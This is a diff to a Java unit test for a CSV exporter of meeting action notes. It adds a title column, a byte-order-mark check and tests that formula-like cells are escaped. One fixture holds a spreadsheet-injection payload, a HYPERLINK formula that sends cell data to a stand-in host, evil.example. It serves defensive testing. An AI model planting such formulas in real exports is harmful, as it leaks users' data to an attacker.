@@ -15,8 +15,8 @@ import org.junit.jupiter.api.Test;
 
 class ActionNotesCsvTest {
 
-    private static final List<String> HEADER =
-            List.of("meeting_date", "item_number", "item_title", "action", "timescale", "due_date", "who", "status", "ref");
+    private static final List<String> HEADER = List.of("meeting_date", "item_number", "item_title", "action", "timescale",
+            "due_date", "who", "status", "ref", "notes_title");
 
     private final ActionNotesCsv csv = new ActionNotesCsv();
 
@@ -34,17 +34,45 @@ class ActionNotesCsvTest {
             CSVRecord first = rows.get(0);
             assertThat(first.toList()).containsExactly("2008-09-03", "2", "Revised Terms of Reference for the E&CC Theme Group",
                     "Forward the Home Office Toolkit to Debbie for circulation to the group", "Sept 08", "2008-09-30",
-                    "Balbir Sohal / Debbie Briggs", "open", "A1");
+                    "Balbir Sohal / Debbie Briggs", "open", "A1", "Action Notes of the Equalities and Communities Theme Group");
             assertThat(rows.get(5).get("who")).isEqualTo("ALL");
             assertThat(rows.get(2).get("timescale")).isEqualTo("Sept/Oct 08");
         }
     }
 
     @Test
-    void rfc4180LineEndingsAndNoByteOrderMark() {
+    void rfc4180LineEndingsAfterAByteOrderMark() {
         String text = render(MeetingFixtures.september2008());
-        assertThat(text).startsWith("meeting_date,item_number,").doesNotStartWith("\uFEFF");
+        assertThat(text).startsWith("\uFEFFmeeting_date,item_number,");
         assertThat(text.split("\r\n", -1)).hasSize(8); // header, 6 rows, and the empty string after the last CRLF
+    }
+
+    @Test
+    void noCellOfAnyColumnIsReadAsAFormula() throws IOException {
+        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
+        ActionNotes notes = new ActionNotes(MeetingFixtures.GROUP, MeetingFixtures.MEETING_DATE, false, List.of(), List.of(),
+                List.of(), List.of(MeetingFixtures.item(1, "+Budget",
+                        new ActionNotes.ActionRow("A1", formula, "-1 week", java.util.Optional.empty(), List.of("@Sue"), "open"),
+                        new ActionNotes.GoodPractice("G1", "\tTab first", "\rCarriage", "tabled"))),
+                java.util.Optional.empty());
+        try (CSVParser parser = parse(render(notes))) {
+            List<CSVRecord> rows = parser.getRecords();
+            assertThat(rows.get(0).toList()).containsExactly("2008-09-03", "1", "'+Budget", "'" + formula, "'-1 week", "",
+                    "'@Sue", "open", "A1", "Action Notes of the Equalities and Communities Theme Group");
+            assertThat(rows.get(1).toList()).containsExactly("2008-09-03", "1", "'+Budget", "'\tTab first", "", "",
+                    "'\rCarriage", "tabled", "G1", "Action Notes of the Equalities and Communities Theme Group");
+        }
+    }
+
+    @Test
+    void aDraftSaysSoOnEveryRow() throws IOException {
+        ActionNotes base = MeetingFixtures.september2008();
+        ActionNotes open = new ActionNotes(base.groupName(), base.meetingDate(), true, base.present(), base.apologies(),
+                base.opening(), base.items(), base.nextMeeting());
+        try (CSVParser parser = parse(render(open))) {
+            assertThat(parser.getRecords()).extracting(r -> r.get("notes_title"))
+                    .containsOnly("Action Notes of the Equalities and Communities Theme Group (draft)");
+        }
     }
 
     @Test
@@ -82,6 +110,8 @@ class ActionNotesCsvTest {
     }
 
     private static CSVParser parse(String text) throws IOException {
-        return CSVParser.parse(new StringReader(text), CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get());
+        assertThat(text).startsWith("\uFEFF");
+        return CSVParser.parse(new StringReader(text.substring(1)),
+                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get());
     }
 }
